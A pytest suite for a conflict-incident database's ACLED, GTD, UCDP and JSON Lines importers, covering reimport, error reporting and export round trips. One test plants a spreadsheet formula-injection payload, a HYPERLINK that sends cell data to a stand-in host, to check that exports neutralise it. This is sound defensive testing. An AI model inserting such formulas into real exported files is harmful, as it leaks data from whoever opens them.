"""Importers on good and bad input, on both databases: idempotency, errors, round trips."""

from __future__ import annotations

import csv
import gzip
import json
from datetime import date
from pathlib import Path

import pytest
from sqlalchemy import Engine, func, select
from sqlalchemy.orm import Session

from safecorridor.incidents.actors import add_actor
from safecorridor.incidents.models import Actor, Incident, IncidentChange
from safecorridor.incidents.service import IncidentFilter, list_incidents
from safecorridor.sharing.audit.state import verify_states
from safecorridor.sources.export import export_file
from safecorridor.sources.importers import ImportFormatError, import_file
from safecorridor.sources.models import ImportRun
from tests.conftest import UCDP_CSV
from tests.sources.conftest import ACLED_HEADER


def _count(session: Session) -> int:
    return int(session.scalar(select(func.count()).select_from(Incident)) or 0)


def test_acled_rows_import_with_every_field(
    engine: Engine, session: Session, acled_csv: Path
) -> None:
    report = import_file("acled", acled_csv)
    assert (report.new, report.rejected) == (3, 0)
    ku = session.scalar(select(Incident).where(Incident.source_key == "PAK8812"))
    assert ku is not None
    assert ku.event_date == date(2022, 4, 26)  # "26 April 2022"
    assert (ku.event_type, ku.sub_event_type) == ("Explosions/Remote violence", "Suicide bomb")
    assert ku.actor1 is not None and ku.actor1.name == "BLA: Baloch Liberation Army"
    assert (ku.admin1, ku.admin2, ku.fatalities, ku.geo_precision) == (
        "Sindh",
        "Karachi East",
        4,
        1,
    )
    assert (
        ku.notes is not None and "Confucius Institute, killing\nthree" in ku.notes
    )  # newline kept
    assert ku.target_category == "civilians"
    assert ku.extra["acled_timestamp"] == "1651616000"
    assert ku.history[0].action == "imported"


def test_reimport_adds_nothing(engine: Engine, session: Session, acled_csv: Path) -> None:
    import_file("acled", acled_csv)
    again = import_file("acled", acled_csv)
    assert (again.new, again.updated, again.unchanged) == (0, 0, 3)
    assert _count(session) == 3
    runs = session.scalars(select(ImportRun).order_by(ImportRun.id)).all()
    assert [(r.status, r.rows_new, r.rows_unchanged) for r in runs] == [
        ("finished", 3, 0),
        ("finished", 0, 3),
    ]


def test_a_corrected_row_updates_the_record_with_history(
    engine: Engine, session: Session, acled_csv: Path
) -> None:
    import_file("acled", acled_csv)
    text = acled_csv.read_text(encoding="utf-8")
    assert "two children.,2," in text
    acled_csv.write_text(
        text.replace("two children.,2,", "two children.,3,"), encoding="utf-8"
    )  # 2 -> 3 killed
    report = import_file("acled", acled_csv)
    assert (report.new, report.updated, report.unchanged) == (0, 1, 2)
    gwadar = session.scalar(select(Incident).where(Incident.source_key == "PAK7560"))
    assert gwadar is not None and gwadar.fatalities == 3
    assert gwadar.history[-1].action == "reimported"
    assert gwadar.history[-1].changes["fatalities"] == [2, 3]


def test_acled_tolerates_missing_optional_columns(
    engine: Engine, session: Session, tmp_path: Path
) -> None:
    path = tmp_path / "minimal.csv"
    path.write_text(
        "event_date,event_type,sub_event_type,actor1,latitude,longitude,fatalities\n"
        "2024-10-06,Explosions/Remote violence,Remote explosive/landmine/IED,BLA,24.9065,67.1608,2\n",
        encoding="utf-8",
    )
    report = import_file("acled", path)
    assert report.new == 1
    inc = session.scalar(select(Incident))
    assert inc is not None and inc.source_key == inc.content_hash  # no id column: keyed by content
    assert inc.date_precision == "day"  # no time_precision column: the date's own day


def test_bad_rows_are_reported_with_line_and_reason_and_good_rows_stored(
    engine: Engine, session: Session, tmp_path: Path
) -> None:
    path = tmp_path / "mixed.csv"
    path.write_text(
        ACLED_HEADER + "\n"
        'X1,2022-04-26,2022,1,,Explosions/Remote violence,Suicide bomb,BLA,,,,,,,,,,Pakistan,Sindh,,,"Karachi",24.94,67.12,1,,,"ok",4,,\n'
        "X2,2022-04-27,2022,1,,Terrorism,,BLA,,,,,,,,,,Pakistan,Sindh,,,Karachi,24.94,67.12,1,,,,1,,\n"
        "X3,not a date,2022,1,,Battles,Armed clash,BLA,,,,,,,,,,Pakistan,Sindh,,,Karachi,24.94,67.12,1,,,,1,,\n"
        "X4,2022-04-28,2022,1,,Battles,Armed clash,BLA,,,,,,,,,,Pakistan,Sindh,,,Karachi,north,67.12,1,,,,1,,\n"
        "X5,2022-04-29,2022,1,,Battles,Armed clash,BLA,,,,,,,,,,Pakistan,Sindh,,,Karachi,24.94,67.12,1,,,,-3,,\n",
        encoding="utf-8",
    )
    report = import_file("acled", path)
    assert report.new == 1
    reasons = {e.line: e.reason for e in report.errors}
    assert set(reasons) == {3, 4, 5, 6}
    assert "'Terrorism' is not a known ACLED event type" in reasons[3]
    assert "event_date 'not a date'" in reasons[4]
    assert "latitude 'north' is not a number" in reasons[5]
    assert "fatalities '-3' is negative" in reasons[6]
    assert _count(session) == 1


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", "is empty"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "binary file"),
        (b"just a line of prose and nothing else\n", "does not look like a CSV file"),
        (
            b"event_date,event_type\n2022-04-26,Battles\n",
            "missing required column(s) latitude, longitude",
        ),
    ],
)
def test_a_malformed_file_is_refused_whole_and_the_store_is_unchanged(
    engine: Engine, session: Session, acled_csv: Path, tmp_path: Path, content: bytes, message: str
) -> None:
    import_file("acled", acled_csv)
    bad = tmp_path / "bad.csv"
    bad.write_bytes(content)
    with pytest.raises(ImportFormatError, match=message.replace("(", r"\(").replace(")", r"\)")):
        import_file("acled", bad)
    assert _count(session) == 3


def test_actor_names_resolve_through_aliases(
    engine: Engine, session: Session, acled_csv: Path
) -> None:
    bla = add_actor(
        session,
        "Baloch Liberation Army",
        kind="armed_group",
        aliases=["BLA: Baloch Liberation Army"],
    )
    session.commit()
    import_file("acled", acled_csv)
    n_bla = session.scalar(
        select(func.count()).select_from(Incident).where(Incident.actor1_id == bla.id)
    )
    assert n_bla == 2
    assert (
        session.scalar(select(func.count()).select_from(Actor).where(Actor.name.like("BLA%"))) == 0
    )


def test_gtd_dates_with_unknown_day_or_month_keep_their_precision(
    engine: Engine, session: Session, gtd_csv: Path
) -> None:
    report = import_file("gtd", gtd_csv)  # cp1252 file, detected
    assert report.new == 3
    assert [(e.line, e.reason) for e in report.errors] == [(5, "latitude is empty")]
    rows = {i.source_key: i for i in session.scalars(select(Incident))}
    consulate = rows["201811230006"]
    assert (consulate.event_date, consulate.date_precision) == (date(2018, 11, 23), "day")
    assert (consulate.event_type, consulate.sub_event_type) == (
        "Violence against civilians",
        "Attack",
    )
    assert consulate.target_category == "diplomatic,foreign_nationals"
    assert (
        consulate.claimed_by is not None
        and consulate.claimed_by.name == "Baloch Liberation Army (BLA)"
    )
    assert consulate.source == "“Attack on consulate”, Dawn"  # curly quotes survived cp1252
    dalbandin = rows["201808110001"]
    assert (dalbandin.event_date, dalbandin.date_precision) == (date(2018, 8, 1), "month")
    assert dalbandin.sub_event_type == "Suicide bomb"
    assert (dalbandin.fatalities, dalbandin.injured) == (1, 6)
    gwadar = rows["201700000001"]
    assert (gwadar.event_date, gwadar.date_precision, gwadar.geo_precision) == (
        date(2017, 1, 1),
        "year",
        2,
    )


def test_the_real_ucdp_file_imports_completely_and_once(engine: Engine, session: Session) -> None:
    report = import_file("ucdp", UCDP_CSV)
    assert (report.new, report.rejected) == (5730, 0)
    assert _count(session) == 5730
    districts = session.scalar(select(func.count(func.distinct(Incident.admin2))))
    assert districts is not None and districts > 50
    first = session.scalar(select(Incident).where(Incident.source_key == "59553"))
    assert first is not None
    assert first.event_date == date(1990, 10, 4)
    assert (first.admin1, first.admin2) == ("Azad Jammu & Kashmir", "Neelam district")
    assert first.actor1 is not None and first.actor1.name == "Government of India"
    assert first.actor2 is not None and first.actor2.name == "Government of Pakistan"
    assert first.geo_precision == 2  # where_prec 2
    bla = list_incidents(session, IncidentFilter(actor="BLA"), limit=None)
    assert len(bla) > 100
    again = import_file("ucdp", UCDP_CSV)
    assert (again.new, again.unchanged) == (0, 5730)


def test_the_hxl_row_is_skipped_not_rejected(engine: Engine, tmp_path: Path) -> None:
    with gzip.open(UCDP_CSV, "rt", encoding="utf-8") as fh:
        lines = [next(fh) for _ in range(5)]
    small = tmp_path / "ucdp.csv"
    small.write_text("".join(lines), encoding="utf-8")
    report = import_file("ucdp", small)
    assert (report.rows, report.new, report.rejected) == (3, 3, 0)


def test_export_csv_reimports_to_the_same_records(
    engine: Engine, session: Session, acled_csv: Path, gtd_csv: Path, tmp_path: Path
) -> None:
    import_file("acled", acled_csv)
    import_file("gtd", gtd_csv)
    out = tmp_path / "export.csv"
    assert export_file(session, "csv", out) == 6
    report = import_file("acled", out)
    assert (report.new, report.updated, report.unchanged, report.rejected) == (0, 0, 6, 0)


def test_a_ucdp_export_read_back_changes_nothing_and_writes_no_history(
    engine: Engine, session: Session, tmp_path: Path
) -> None:
    """UCDP rows spelled as ACLED columns hash differently but hold the same record: the
    round trip reports them unchanged and adds no "reimported" line to their history."""
    with gzip.open(UCDP_CSV, "rt", encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    # the header, HDX's hashtag row, and rows against civilians, whom the export names
    # "Civilians (Pakistan)" as ACLED does
    civilians = [r for r in rows[2:] if "Civilians" in r][:150]
    small = tmp_path / "ucdp.csv"
    with small.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows(rows[:2] + civilians)
    # as the demo world has it: UCDP's "Civilians" is an alias of an actor with a longer name
    add_actor(session, "Civilians (Pakistan)", kind="civilians", aliases=["Civilians"])
    session.commit()
    n = import_file("ucdp", small).new
    assert n == len(civilians) == 150
    out = tmp_path / "export.csv"
    assert export_file(session, "csv", out) == n
    history = session.scalar(select(func.count()).select_from(IncidentChange))
    report = import_file("acled", out)
    assert (report.new, report.updated, report.unchanged, report.rejected) == (0, 0, n, 0)
    session.expire_all()
    assert session.scalar(select(func.count()).select_from(IncidentChange)) == history
    # nothing was written outside the audited services: the stored states are still the ones
    # the audit chain recorded (the README's round trip, then ``audit verify``)
    assert verify_states(engine) == []


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_export_into_a_fresh_store_gives_the_same_records(
    sqlite_engine: Engine, acled_csv: Path, gtd_csv: Path, tmp_path: Path, fmt: str
) -> None:
    from sqlalchemy.orm import sessionmaker

    from safecorridor.db.engine import make_engine, migrate
    from safecorridor.incidents.service import to_create

    import_file("acled", acled_csv)
    import_file("gtd", gtd_csv)
    out = tmp_path / f"export.{fmt}"
    with sessionmaker(bind=sqlite_engine)() as s:
        export_file(s, fmt, out)
        before = {
            (i.source_dataset, i.source_key): (i.content_hash, to_create(i))
            for i in s.scalars(select(Incident))
        }
    fresh = make_engine(f"sqlite:///{tmp_path / 'fresh.db'}")
    migrate(fresh)
    report = import_file("acled" if fmt == "csv" else "jsonl", out, engine=fresh)
    assert report.new == 6
    with sessionmaker(bind=fresh)() as s:
        after = {
            (i.source_dataset, i.source_key): (i.content_hash, to_create(i))
            for i in s.scalars(select(Incident))
        }
    assert after == before
    fresh.dispose()


def test_a_text_a_spreadsheet_would_run_is_exported_inert_and_imports_back_as_it_was(
    sqlite_engine: Engine, acled_csv: Path, gtd_csv: Path, tmp_path: Path
) -> None:
    """Notes and names starting like a formula ("=HYPERLINK(...)", "@SUM", "+92", "-3 dead")
    are written with a leading apostrophe, so that a partner opening the export in a
    spreadsheet sees text, not a formula it runs; importing the file gives the texts back."""
    from sqlalchemy import update
    from sqlalchemy.orm import sessionmaker

    from safecorridor.db.engine import make_engine, migrate

    import_file("acled", acled_csv)
    import_file("gtd", gtd_csv)
    texts = ['=HYPERLINK("http://x.example/?"&A1,"open")', "@SUM(A1:A9)", "+92 300", "-3 dead"]
    with sessionmaker(bind=sqlite_engine)() as s:
        ids = list(s.scalars(select(Incident.id).order_by(Incident.id)))[: len(texts)]
        for ident, note in zip(ids, texts, strict=True):
            s.execute(
                update(Incident).where(Incident.id == ident).values(notes=note, location=note)
            )
        s.commit()
        out = tmp_path / "export.csv"
        export_file(s, "csv", out)
    with out.open(newline="", encoding="utf-8") as f:
        cells = [v for row in csv.DictReader(f) for v in row.values()]
    assert not [c for c in cells if c and c[0] in "=+@\t\r"]  # no cell a spreadsheet runs
    assert not [c for c in cells if c.startswith("-") and not c[1:].replace(".", "").isdigit()]
    for note in texts:
        assert cells.count("'" + note) == 2  # notes and location

    fresh = make_engine(f"sqlite:///{tmp_path / 'fresh.db'}")
    migrate(fresh)
    import_file("acled", out, engine=fresh)
    with sessionmaker(bind=fresh)() as s:
        got = sorted(n for n in s.scalars(select(Incident.notes)) if n in texts)
        assert got == sorted(texts)
        assert sorted(x for x in s.scalars(select(Incident.location)) if x in texts) == got
    fresh.dispose()


def test_jsonl_lines_that_are_not_json_are_rejected_by_line(engine: Engine, tmp_path: Path) -> None:
    path = tmp_path / "x.jsonl"
    good = {
        "event_date": "2024-10-06",
        "event_type": "Explosions/Remote violence",
        "latitude": 24.9,
        "longitude": 67.16,
    }
    path.write_text(json.dumps(good) + "\n{broken\n[1, 2]\n", encoding="utf-8")
    report = import_file("jsonl", path)
    assert report.new == 1
    assert [e.line for e in report.errors] == [2, 3]


def test_marked_rows_without_an_owner_are_imported_with_a_warning(
    engine: Engine, tmp_path: Path
) -> None:
    """CSV and JSON Lines carry no owner: an AMBER row comes in ownerless, which no signed-in
    reader may read, and the import says so; open rows raise no warning."""
    path = tmp_path / "x.jsonl"
    row = {
        "event_date": "2024-10-06",
        "event_type": "Explosions/Remote violence",
        "latitude": 24.9,
        "longitude": 67.16,
    }
    lines = [
        {**row, "source_key": "a", "tlp": "AMBER"},
        {**row, "source_key": "b", "tlp": "RED"},
        {**row, "source_key": "c", "tlp": "GREEN"},
    ]
    path.write_text("".join(json.dumps(x) + "\n" for x in lines), encoding="utf-8")
    report = import_file("jsonl", path)
    assert report.new == 3 and report.unowned_marked == 2
    assert "warning: 2 new incident(s) marked AMBER or stricter" in report.summary()
    again = import_file("jsonl", path)
    assert again.unowned_marked == 0 and "warning" not in again.summary()


def test_a_date_with_a_time_zone_is_its_day_without_a_warning() -> None:
    import warnings

    from safecorridor.sources.importers.common import parse_date

    with warnings.catch_warnings():
        warnings.simplefilter("error")  # dateutil warns of zones it does not know ("PKT")
        assert parse_date("6 May 2024 10:00 PKT", column="date") == date(2024, 5, 6)
